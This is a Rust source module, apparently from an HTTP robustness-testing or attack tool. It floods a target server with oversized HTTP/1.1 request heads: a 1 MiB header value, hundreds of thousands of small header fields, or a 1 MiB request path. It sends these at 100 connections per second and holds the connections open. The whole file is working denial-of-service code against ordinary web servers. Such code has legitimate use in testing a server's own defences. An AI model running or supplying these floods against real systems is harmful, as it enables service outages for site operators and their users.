//! Heads of HTTP/1.1 that nobody should read to their ends.

use super::{Attacker, Pace};
use crate::link::Link;

/// Connections a second, each with one head.
const RATE: u32 = 100;
/// Bytes of it, if the other side takes them all.
const SIZE: usize = 1 << 20;

fn flood(attacker: &mut Attacker, head: &[u8]) -> Vec<Link> {
    let mut pace = Pace::of(RATE);
    let mut waiting: Vec<Link> = Vec::new();
    while !attacker.is_over() {
        pace.next();
        if let Some(mut link) = attacker.open(None) {
            for piece in head.chunks(16 * 1024) {
                if !link.send(piece, attacker.until) {
                    break;
                }
                attacker.count("bytes", piece.len() as u64);
                if !link.inbox.is_empty() {
                    break;
                }
                link.receive();
            }
            waiting.push(link);
        }
        for link in &mut waiting {
            link.receive();
            attacker.count_answers(link);
        }
        let before = waiting.len();
        waiting.retain(|link| !link.has_ended);
        attacker.count("ended", (before - waiting.len()) as u64);
    }
    waiting
}

pub fn huge(attacker: &mut Attacker) -> Vec<Link> {
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Huge: {}", attacker.host, "x".repeat(SIZE));
    flood(attacker, head.as_bytes())
}

pub fn many_fields(attacker: &mut Attacker) -> Vec<Link> {
    let fields = "X: x\r\n".repeat(SIZE / 6);
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\n{fields}\r\n", attacker.host);
    flood(attacker, head.as_bytes())
}

pub fn long_targets(attacker: &mut Attacker) -> Vec<Link> {
    let head = format!("GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n", "x".repeat(SIZE), attacker.host);
    flood(attacker, head.as_bytes())
}
